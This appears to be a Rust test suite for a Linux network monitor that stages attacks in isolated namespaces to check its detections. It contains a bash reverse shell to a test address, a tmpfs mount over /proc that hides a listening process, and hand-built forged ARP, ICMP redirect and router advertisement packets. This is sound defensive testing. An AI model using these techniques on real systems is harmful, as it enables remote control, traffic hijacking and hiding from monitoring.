//! What an attack does or leaves behind.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use netmonitor_testkit::need_tool;
use netmonitor_testkit::netns::Netns;
use netmonitor_testkit::puppet::Puppet;

use super::world::{SYN, Segment, World, checksum, hexadecimal, world};
use super::{Scenario, Watching, scenarios};
use crate::events::ROLE;
use crate::netmonitor;

scenarios! {
    SCAN "tries 40 ports of another machine that are closed" ["outbound-scan"];
    SCANNED "is on a machine of which 40 closed ports are tried" ["inbound-scan"];
    SWEEP "sends to 60 addresses of a link behind which nobody is" ["neighbour-sweep"];
    BEACON "calls home at regular times, with some jitter" ["beaconing"];
    LONG "keeps a connection for longer than the threshold" ["long-connection"];
    PORTS "connects to port 4444 of another machine" ["unusual-port", "miner-pool-port"];
    CLEARTEXT "connects to port 80 of another machine" ["cleartext-protocol"];
    SSH "is called ssh and connects to port 8443" ["ssh-to-other-port"];
    METADATA "asks 169.254.169.254" ["metadata-service"];
    UDP "connects UDP to port 9999" ["unexpected-udp"];
    SHELL "is a shell whose standard streams are a connection" ["shell-on-network"];
    INTERPRETER "is a script that listens on all addresses" ["interpreter-listening"];
    SNIFFER "holds a packet socket with a filter and in promiscuous mode" ["packet-socket", "packet-filter-backdoor", "promiscuous-interface"];
    FORGED_ARP "is sent forged answers of ARP for its gateway" ["neighbour-address-changed", "gateway-address-shared"];
    GATEWAY "has its default route led over another machine" ["gateway-changed"];
    REDIRECT "is sent a forged redirect of ICMP" ["icmp-redirects"];
    ADVERTISEMENT "is on a link where a second machine says that it is a router" ["rogue-router-advertisement"];
    ECHO "gets echo requests faster than a person pings, and holds a socket for ICMP" ["icmp-tunnel", "raw-socket"];
    DNS "sends 400 kB to port 53" ["dns-tunnel"];
    INJECTION "is sent forged requests within a connection" ["forged-segments"];
    BIND "opens a port on all addresses long after its start" ["listener-on-all-addresses"];
    HIDDEN "shares its namespace with one that listens and that /proc does not show" ["hidden-listener"];
    DELETED "runs a program whose file was deleted, and has a connection" ["deleted-executable"];
    SPOOFED "is sent packets from an address that is reached another way" ["spoofed-sources"];
}

/// A process that a test has started, and that ends with it.
struct Started(Child);

impl Started {
    fn by(mut command: Command) -> Self {
        Self(command.stdin(Stdio::piped()).stdout(Stdio::null()).spawn().unwrap())
    }

    fn pid(&self) -> u32 {
        self.0.id()
    }
}

impl Drop for Started {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn scans() {
    let Some(mut world) = world() else { return };
    let (mut looking, there) = (world.looking(&SCAN), world.there.pid());
    let mut scanned = Watching::start(there, &[], SCANNED.produces);
    world.here(&["scan 192.0.2.2 7001 7040"]);
    let found = looking.find();
    assert_eq!((&found[0]["severity"], &found[0]["of"]), (&"warning".into(), &"process".into()));
    let evidence = found[0]["evidence"].as_str().unwrap();
    assert!(evidence.contains("addresses 1;"), "{evidence}");
    assert_eq!(scanned.find()[0]["of"], "namespace");
}

#[test]
fn a_sweep() {
    let Some(mut world) = world() else { return };
    let mut looking = world.looking(&SWEEP);
    world.here(&["sweep 192.0.2.0 100 159"]);
    assert_eq!(looking.find()[0]["about"], "interface veth0");
}

#[test]
fn calls_home() {
    let Some(mut world) = world() else { return };
    world.there(&["listen 4433"]);
    let thresholds = [("beacon-connections", 8.0), ("beacon-seconds", 0.05)];
    let mut looking = world.judging(&thresholds, &BEACON);
    world.here.tell("call 192.0.2.2 4433 150 155 147 152 144 153 148 150 154 146 151 149 152 148 150");
    assert_eq!(looking.find()[0]["about"], "tcp 192.0.2.2:4433");
    assert_eq!(world.here.answer(), "ok");
}

#[test]
fn a_long_connection() {
    let Some(mut world) = world() else { return };
    world.there(&["listen 4433"]);
    world.here(&["connect 192.0.2.2 4433"]);
    let mut looking = world.judging(&[("long-connection-seconds", 0.5)], &LONG);
    assert_eq!(looking.find()[0]["severity"], "info");
}

#[test]
fn ports_that_malware_uses() {
    let Some(mut world) = world() else { return };
    for (port, scenario) in [(4444, &PORTS), (80, &CLEARTEXT)] {
        let mut looking = world.looking(scenario);
        world.there(&[&format!("listen {port}")]);
        world.here(&[&format!("connect 192.0.2.2 {port}")]);
        let about = format!("tcp 192.0.2.2:{port}");
        assert!(looking.find().iter().all(|row| row["about"] == *about));
    }
}

/// The test program under another name, on the same disk; without the file when this is dropped.
struct Renamed(PathBuf);

impl Renamed {
    fn to(name: &str) -> Self {
        let folder =
            Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("renamed-{}-{name}", std::process::id()));
        std::fs::create_dir_all(&folder).unwrap();
        let file = folder.join(name);
        let _ = std::fs::remove_file(&file);
        std::fs::hard_link(std::env::current_exe().unwrap(), &file).unwrap();
        Self(file)
    }
}

impl Drop for Renamed {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(self.0.parent().unwrap());
    }
}

#[test]
fn an_ssh_client_to_another_port() {
    let Some(mut world) = world() else { return };
    let ssh = Renamed::to("ssh");
    world.here = Puppet::start_as(&world.netns, ROLE, &ssh.0);
    world.there(&["listen 8443"]);
    world.here(&["connect 192.0.2.2 8443"]);
    assert_eq!(world.looking(&SSH).find()[0]["severity"], "info");
}

#[test]
fn the_metadata_service() {
    let Some(mut world) = world() else { return };
    world.peer.ip("addr add 169.254.169.254/32 dev veth0");
    world.netns.ip("route add 169.254.169.254/32 dev veth0");
    world.there(&["listen 80"]);
    let mut looking = world.looking(&METADATA);
    // It is over before anybody looks.
    world.here(&["connect 169.254.169.254 80", "close"]);
    assert_eq!(looking.find()[0]["severity"], "warning");
}

#[test]
fn udp_to_an_unusual_port() {
    let Some(mut world) = world() else { return };
    world.here(&["associate 192.0.2.2 9999"]);
    assert_eq!(world.looking(&UDP).find()[0]["about"], "udp 192.0.2.2:9999");
}

#[test]
fn a_shell_on_a_connection() {
    let Some(mut world) = world() else { return };
    if !need_tool("bash") {
        return;
    }
    world.there(&["listen 4000"]);
    let mut command = world.netns.command("bash");
    command.args(["-c", "exec sh 0<>/dev/tcp/192.0.2.2/4000 1>&0 2>&0"]);
    let shell = Started::by(command);
    world.there(&["accept"]);
    let found = Watching::start(shell.pid(), &[], SHELL.produces).find();
    assert_eq!(found[0]["severity"], "critical");
    assert!(found[0]["what"].as_str().unwrap().contains("input, output, error"), "{}", found[0]["what"]);
}

#[test]
fn a_script_that_listens() {
    let Some(world) = world() else { return };
    if !need_tool("python3") {
        return;
    }
    let script = "import socket, sys; s = socket.socket(); s.bind(('', 8000)); s.listen(); sys.stdin.read()";
    let mut command = world.netns.command("python3");
    command.args(["-c", script]);
    let python = Started::by(command);
    let found = Watching::start(python.pid(), &[], INTERPRETER.produces).find();
    assert_eq!((&found[0]["severity"], &found[0]["about"]), (&"info".into(), &"tcp 0.0.0.0:8000".into()));
}

#[test]
fn a_sniffer() {
    let Some(mut world) = world() else { return };
    let mut looking = world.looking(&SNIFFER);
    world.here(&["packet veth0", "filter", "promiscuous veth0"]);
    let found = looking.find();
    let of = |name: &str| found.iter().find(|row| row["name"] == name).unwrap();
    let severities = SNIFFER.produces.iter().map(|name| of(name)["severity"].as_str().unwrap());
    assert_eq!(severities.collect::<Vec<_>>(), ["warning", "critical", "warning"]);
    let evidence = of("packet-filter-backdoor")["evidence"].as_str().unwrap();
    assert!(evidence.contains("filter_instructions 4"), "{evidence}");
}

#[test]
fn forged_answers_for_the_gateway() {
    let Some(mut world) = world() else { return };
    world.netns.ip("neigh replace 192.0.2.254 lladdr 02:00:00:00:00:fe dev veth0 nud reachable");
    world.netns.ip("route add default via 192.0.2.254");
    world.there(&["listen 4433"]);
    world.here(&["connect 192.0.2.2 4433"]);
    let mut looking = world.looking(&FORGED_ARP);
    let (here, there) = (World::hardware(&world.netns), World::hardware(&world.peer));
    let gateway = [192, 0, 2, 254];
    // Ethernet; then ARP: hardware and protocol, their lengths, an answer, from whom, to whom.
    let arp = [&[0, 1, 8, 0, 6, 4, 0, 2], &there[..], &gateway, &here, &[192, 0, 2, 1]].concat();
    let frame = [&here[..], &there, &[8, 6], &arp].concat();
    let step = format!("frame veth0 {}", hexadecimal(&frame));
    // The kernel takes no change within a second of the last one.
    std::thread::sleep(Duration::from_millis(1100));
    world.there(&[&step, &step]);
    let found = looking.find();
    assert!(
        found.iter().all(|row| row["about"] == "192.0.2.254 on veth0" && row["severity"] == "warning"),
        "{found:?}"
    );
}

#[test]
fn another_gateway() {
    let Some(world) = world() else { return };
    world.netns.ip("route add default via 192.0.2.254");
    let mut looking = world.looking(&GATEWAY);
    world.netns.ip("route replace default via 192.0.2.2");
    let found = looking.find();
    assert!(found[0]["what"].as_str().unwrap().contains("over 192.0.2.2 on veth0, and led over 192.0.2.254"));
}

#[test]
fn a_redirect() {
    let Some(mut world) = world() else { return };
    let mut looking = world.looking(&REDIRECT);
    // Redirect for host, over this gateway; then the header of the packet that it is about, and 8 bytes of it.
    let mut packet = vec![0x45, 0, 0, 28, 0, 0, 0, 0, 64, 17, 0, 0, 192, 0, 2, 1, 198, 51, 100, 1];
    let sum = checksum(&[&packet]);
    packet[10..12].copy_from_slice(&sum);
    packet.extend([0, 9, 0, 9, 0, 8, 0, 0]);
    let mut message = [&[5, 1, 0, 0, 192, 0, 2, 66], &packet[..]].concat();
    let sum = checksum(&[&message]);
    message[2..4].copy_from_slice(&sum);
    world.there(&[&format!("inject 192.0.2.1 1 {}", hexadecimal(&message))]);
    assert_eq!(looking.find()[0]["about"], "Icmp.InRedirects");
}

/// A frame to all machines of a link in which a router says that it is one.
fn advertisement(hardware: [u8; 6], last: u8) -> Vec<u8> {
    let mut source = [0; 16];
    (source[0], source[1], source[15]) = (0xfe, 0x80, last);
    let mut target = [0; 16];
    (target[0], target[1], target[15]) = (0xff, 0x02, 1);
    // Type 134, hop limit 64, a router for half an hour; with its hardware address.
    let mut message = [&[134, 0, 0, 0, 64, 0, 7, 8, 0, 0, 0, 0, 0, 0, 0, 0, 1, 1], &hardware[..]].concat();
    let length = u8::try_from(message.len()).unwrap();
    let sum = checksum(&[&source, &target, &[0, 0, 0, length, 0, 0, 0, 58], &message]);
    message[2..4].copy_from_slice(&sum);
    let ethernet = [&[0x33, 0x33, 0, 0, 0, 1], &hardware[..], &[0x86, 0xdd]].concat();
    [&ethernet[..], &[0x60, 0, 0, 0, 0, length, 58, 255], &source, &target, &message].concat()
}

#[test]
fn a_second_router() {
    let Some(mut world) = world() else { return };
    world.netns.run("sysctl -q -w net.ipv6.conf.veth0.accept_ra=2");
    let hardware = World::hardware(&world.peer);
    let frame = |last| format!("frame veth0 {}", hexadecimal(&advertisement(hardware, last)));
    world.there(&[&frame(1)]);
    let has = |netns: &Netns, router: &str| netns.ip("-6 route show default").contains(router);
    let mut looking = world.looking(&ADVERTISEMENT);
    // An interface that has just come up has no address of its own yet.
    for router in [1, 102] {
        for _ in 0..50 {
            if has(&world.netns, &format!("fe80::{router:x}")) {
                break;
            }
            world.there(&[&frame(router)]);
            std::thread::sleep(Duration::from_millis(50));
        }
        std::thread::sleep(Duration::from_millis(300));
    }
    let found = looking.find();
    assert_eq!(found[0]["about"], "fe80::66 on veth0");
}

#[test]
fn echo_messages() {
    let Some(mut world) = world() else { return };
    world.here(&["echo 192.0.2.2 1 0"]);
    let mut looking = world.judging(&[("icmp-tunnel-seconds", 0.5)], &ECHO);
    world.there.tell("echo 192.0.2.1 100 20");
    assert!(looking.find().iter().all(|row| row["severity"] == "warning"));
}

#[test]
fn much_that_is_asked_of_dns() {
    let Some(mut world) = world() else { return };
    let mut looking = world.looking(&DNS);
    world.here(&["associate 192.0.2.2 53"]);
    for _ in 0..4 {
        world.here(&["ask 100 1000"]);
    }
    assert_eq!(looking.find()[0]["severity"], "warning");
}

#[test]
fn forged_requests() {
    let Some(mut world) = world() else { return };
    world.here(&["listen 4433"]);
    world.there(&["connect 192.0.2.1 4433"]);
    world.here(&["accept"]);
    let mut looking = world.looking(&INJECTION);
    let port = world.peer_port(4433);
    for number in 0..30_u32 {
        let segment = Segment { sequence: number * 100_000, ..Segment::bare((port, 4433), SYN) };
        world.there(&[&segment.step()]);
    }
    let found = looking.find();
    assert!(
        found[0]["evidence"].as_str().unwrap().contains("TcpExt.TCPSYNChallenge"),
        "{}",
        found[0]["evidence"]
    );
}

#[test]
fn a_port_that_is_opened_later() {
    let Some(mut world) = world() else { return };
    let mut looking = world.judging(&[("listener-startup-seconds", 0.0)], &BIND);
    world.here(&["listen 4444"]);
    assert_eq!(looking.find()[0]["about"], "tcp 0.0.0.0:4444");
}

#[test]
fn a_listener_whose_process_is_hidden() {
    let Some(mut world) = world() else { return };
    if !need_tool("unshare") {
        return;
    }
    let mut hidden = Puppet::start(&world.netns, ROLE);
    assert_eq!(hidden.act("listen 31337"), "ok");
    world.here(&["listen 8080"]);
    let mut command = Command::new("unshare");
    // Nothing is seen of it any more in the namespace of mounts that this makes.
    let hide = format!("mount -t tmpfs none /proc/{} && exec \"$0\" \"$@\"", hidden.pid());
    command.args(["--mount", "sh", "-c", &hide]).arg(netmonitor().get_program());
    // Its own programs in the kernel see the process all the same, once they are loaded.
    let words = ["--scope", "namespace", "--owners", "all"];
    let found = Watching::run_by(command, world.here.pid(), &words, HIDDEN.produces).find();
    assert_eq!((&found[0]["about"], &found[0]["of"]), (&"tcp 0.0.0.0:31337".into(), &"namespace".into()));
}

#[test]
fn a_program_whose_file_was_deleted() {
    let Some(mut world) = world() else { return };
    let program = Renamed::to("update");
    world.here = Puppet::start_as(&world.netns, ROLE, &program.0);
    drop(program);
    world.there(&["listen 4433"]);
    world.here(&["connect 192.0.2.2 4433"]);
    assert_eq!(world.looking(&DELETED).find()[0]["severity"], "warning");
}

#[test]
fn forged_sources() {
    let Some(mut world) = world() else { return };
    world.netns.run("sysctl -q -w net.ipv4.conf.all.rp_filter=1 net.ipv4.conf.veth0.rp_filter=1");
    let mut looking = world.looking(&SPOOFED);
    let (here, there) = (World::hardware(&world.netns), World::hardware(&world.peer));
    let mut packet = vec![0x45, 0, 0, 28, 0, 0, 0, 0, 64, 17, 0, 0, 127, 0, 0, 5, 192, 0, 2, 1];
    packet[12..16].copy_from_slice(&[203, 0, 113, 5]);
    let sum = checksum(&[&packet]);
    packet[10..12].copy_from_slice(&sum);
    packet.extend([0, 9, 0, 9, 0, 8, 0, 0]);
    let frame = [&here[..], &there, &[8, 0], &packet].concat();
    world.there(&[&format!("frame veth0 {}", hexadecimal(&frame))]);
    assert_eq!(looking.find()[0]["of"], "namespace");
}
